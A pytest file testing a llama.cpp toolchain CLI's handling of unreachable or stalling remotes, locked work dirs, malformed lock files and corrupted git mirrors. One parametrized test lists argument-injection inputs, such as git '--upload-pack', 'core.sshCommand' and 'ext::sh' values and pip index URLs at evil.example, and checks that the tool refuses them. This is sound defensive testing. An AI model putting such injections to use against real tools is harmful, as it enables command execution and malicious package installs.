"""Source-stage faults: unreachable and stalling remotes, malicious input, busy work dir.

Each case asserts the exit code of its class, a message naming the problem and the next step,
and a time bound; nothing outside the test's tmp dir is touched.
"""

import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import Upstream
from toolchain.config import Settings
from toolchain.core.locking import work_dir_lock


@pytest.fixture
def closed_port() -> int:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = int(sock.getsockname()[1])
    sock.close()
    return port


@pytest.fixture
def stalling_port() -> Iterator[int]:
    """Accepts connections and then says nothing."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield int(server.getsockname()[1])
    stop.set()
    thread.join()
    for conn in held:
        conn.close()
    server.close()


def test_remote_unreachable(cli, closed_port: int) -> None:  # type: ignore[no-untyped-def]
    start = time.monotonic()
    done = cli("update", "--git", f"http://127.0.0.1:{closed_port}/llama.cpp.git", "--ref", "HEAD")
    assert done.returncode == 10, done.stderr
    assert "could not reach the remote" in done.stderr and "--offline" in done.stderr
    assert time.monotonic() - start < 60


@pytest.mark.parametrize("scheme", ["git", "http"])
def test_stalling_remote_is_bounded_by_the_timeout(
    cli, settings: Settings, stalling_port: int, scheme: str
) -> None:  # type: ignore[no-untyped-def]
    (settings.project_root / "pyproject.toml").write_text("[tool.llama-toolchain]\nnetwork-timeout = 3\n")
    start = time.monotonic()
    done = cli(
        "update", "--git", f"{scheme}://127.0.0.1:{stalling_port}/llama.cpp", "--ref", "HEAD", timeout=120
    )
    elapsed = time.monotonic() - start
    assert done.returncode == 10, done.stderr
    assert "did not complete in 3" in done.stderr or "could not reach" in done.stderr
    assert elapsed < 30, f"a stalled remote held the run for {elapsed:.0f} s"


@pytest.mark.parametrize(
    "args",
    [
        ("--git=--upload-pack=touch /tmp/pwned-by-test",),
        ("--git=-c core.sshCommand=touch /tmp/pwned-by-test",),
        ("--git=ext::sh -c touch% /tmp/pwned-by-test",),
        ("--git=fd::7",),
        ("--git=https://github.com/ggml-org/llama.cpp", "--ref=--upload-pack=touch /tmp/pwned-by-test"),
        ("--git=https://github.com/ggml-org/llama.cpp", "--ref=-ccore.sshCommand=touch /tmp/pwned-by-test"),
        ("--git=https://github.com/ggml-org/llama.cpp", "--ref=HEAD@{1}"),
        ("--pypi=--index-url=http://evil.example/ llama-cpp-python",),
        ("--pypi=llama-cpp-python @ https://evil.example/x.tar.gz",),
    ],
)
def test_malicious_refs_and_urls_are_refused(cli, settings: Settings, args: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
    start = time.monotonic()
    done = cli("update", *args)
    assert done.returncode == 4, done.stderr
    assert "refusing" in done.stderr and "->" in done.stderr
    assert not Path("/tmp/pwned-by-test").exists()
    assert not (settings.cache_dir / "mirrors").exists(), "nothing may reach git before validation"
    assert not settings.lock_path.exists()
    assert time.monotonic() - start < 30


def test_second_run_on_the_same_work_dir_is_refused(cli, settings: Settings, upstream: Upstream) -> None:  # type: ignore[no-untyped-def]
    assert cli("update", "--git", upstream.url, "--ref", "v0.3.20").returncode == 0
    with work_dir_lock(settings.work_dir):
        start = time.monotonic()
        done = cli("fetch")
    assert done.returncode == 5, done.stderr
    assert "in use by another llama-toolchain process" in done.stderr
    assert time.monotonic() - start < 30
    assert not settings.src_dir.exists(), "the refused run must not touch the work dir"
    assert cli("fetch").returncode == 0


def test_malformed_lock_names_the_field(cli, settings: Settings) -> None:  # type: ignore[no-untyped-def]
    settings.lock_path.write_text(
        'schema_version = 1\n[source]\nkind = "git"\nlocation = "https://h/x"\nref = "HEAD"\ncommit = "abc"\nresolved_at = "x"\n'
    )
    done = cli("fetch")
    assert done.returncode == 3
    assert "not a full commit id" in done.stderr and "llama-toolchain update" in done.stderr
    settings.lock_path.write_text("this is [not toml")
    assert cli("fetch").returncode == 3


def test_corrupt_mirror_is_repaired_by_refetch(settings: Settings, upstream: Upstream) -> None:
    from toolchain import source
    from toolchain.source.git_source import mirror_for
    from toolchain.source.spec import SourceSpec

    spec = SourceSpec("git", upstream.url, "v0.3.36")
    first = source.resolve(spec, settings)
    mirror = mirror_for(settings, upstream.url)
    objects = mirror.path / "objects"
    packs = list((objects / "pack").glob("*.pack"))
    loose = [p for p in objects.glob("??/*")]
    assert packs or loose
    for pack in packs:  # flip bytes in the middle of every pack
        data = bytearray(pack.read_bytes())
        for i in range(len(data) // 2, len(data) // 2 + 4096):
            data[i] ^= 0xFF
        pack.chmod(0o644)
        pack.write_bytes(bytes(data))
    for obj in loose[: len(loose) // 2]:
        obj.unlink()
    again = source.resolve(spec, settings)
    assert again.commit == first.commit
    checkout = source.fetch(again, settings, locked=False)
    assert (checkout.path / "CMakeLists.txt").is_file()
    assert list(settings.mirrors_dir.glob("*.corrupt-*")), "the damaged mirror is kept aside, not deleted"
